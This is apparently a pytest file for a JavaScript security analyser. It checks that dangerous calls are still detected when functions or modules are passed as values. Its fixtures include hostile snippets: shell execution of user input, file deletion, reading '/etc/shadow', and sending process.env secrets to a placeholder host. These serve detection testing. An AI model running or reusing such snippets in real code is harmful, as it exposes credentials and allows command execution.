"""Functions and modules are followed wherever they travel as values."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.analysis.javascript.reader import read
from engine.models import Language, Level, Verdict
from engine.settings import AnalysisSettings
from tests.engine.analysis.passed_values_javascript import PASSED, passed

_PLAIN = {
    "process": "const cp = require('child_process');\ncp.exec(process.argv[2]);\n",
    "fs_sensitive": "const fs = require('fs');\nfs.readFileSync(process.argv[2]);\n",
    "fs_delete": "import fs from 'fs';\nfs.rmSync(process.argv[2]);\n",
}
_REWRITES = [(way, key) for way, ones in PASSED.items() for key in ones]


def _found(code: str) -> set[str]:
    violations = analyse(code, Language.JAVASCRIPT).violations
    return {v.category for v in violations if v.severity.rank >= Level.MEDIUM.rank}


def _paths(source: str) -> list[str]:
    return [call.path for call in read(source, AnalysisSettings(), 0).calls]


@pytest.mark.parametrize(("way", "key"), _REWRITES)
@pytest.mark.parametrize("category", _PLAIN)
def test_a_value_that_travels_keeps_its_category(category: str, way: str, key: str) -> None:
    """What is found in the plain code is found where its functions or modules are passed on first."""
    assert category in _found(_PLAIN[category])
    assert category in _found(PASSED[way][key](_PLAIN[category]))


@pytest.mark.parametrize("category", _PLAIN)
def test_no_rewrite_is_taken_for_harmless(category: str) -> None:
    """None is proven, whatever the value travels through."""
    made = passed(_PLAIN[category])
    assert len(made) == len(_REWRITES)
    verdicts = {analyse(code, Language.JAVASCRIPT).verdict for code in made.values()}
    assert Verdict.HARMLESS not in verdicts


@pytest.mark.parametrize(
    "source",
    [
        "const [, f] = [1, @]; f('/etc/shadow')",
        "const [a, ...rest] = [1, @]; rest[0]('/etc/shadow')",
        "function f(a, ...rest) { rest[1]('/etc/shadow') } f(1, 2, @)",
        "function f(...a) { a[0](a[1]) } f(@, '/etc/shadow')",
        "[1, @].slice(1)[0]('/etc/shadow')",
        "new Set([@]).forEach((f) => f('/etc/shadow'))",
        "for (const f of new Map([['a', @]]).values()) f('/etc/shadow')",
        "for (const [k, f] of new Map([['a', @]]).entries()) f('/etc/shadow')",
        "['/etc/shadow'].forEach(@)",
        "class A { #f; constructor(f) { this.f = f } get g() { return this.f } } new A(@).g('/etc/shadow')",
        "const make = () => ({ f: @ }); make().f('/etc/shadow')",
        "const o = { ...{ f: @ }, a: 1 }; o.f('/etc/shadow')",
        "const o = Object.assign({}, { a: 1 }, { f: @ }); o.f('/etc/shadow')",
    ],
)
def test_a_function_is_known_wherever_it_comes_out(source: str) -> None:
    """Of patterns, rest parameters, maps, sets, getters, results and merged objects."""
    assert "fs.readFileSync" in _paths(source.replace("@", "require('fs').readFileSync"))


def test_lists_of_two_calls_are_taken_together_element_by_element() -> None:
    """An element that differs is not known, one that is the same is."""
    source = "function f(...a) { fetch(a[0], a[1]) } f('https://a.example', 'x'); f('https://b.example', 'x')"
    call = next(call for call in read(source, AnalysisSettings(), 0).calls if call.path == "fetch")
    assert [("unknown", ""), ("text", "x")] == [(arg.kind, arg.text) for arg in call.args]


@pytest.mark.parametrize(
    "source",
    [
        "require('axios').post.apply(null, ['https://a.example', process.env])",
        "Reflect.apply(fetch, null, ['https://a.example/?k=' + process.env.KEY])",
        "fetch(...['https://a.example/?k=' + process.env.KEY])",
    ],
)
def test_arguments_from_a_list_are_judged_as_if_they_were_written_out(source: str) -> None:
    """Secrets that `apply` or `...` sends are found, and the analysis does not fail."""
    assert "js-exfiltration" in {one.rule for one in analyse(source, Language.JAVASCRIPT).violations}


def test_objects_that_are_merged_many_times_end() -> None:
    """Sixty objects, each merged from two of the one before: no property is looked for on every path."""
    merged = "".join(f"const o{n + 1} = Object.assign({{}}, o{n}, o{n});\n" for n in range(60))
    assert not analyse(f"const o0 = {{}};\n{merged}o60.x(1);", Language.JAVASCRIPT).complete
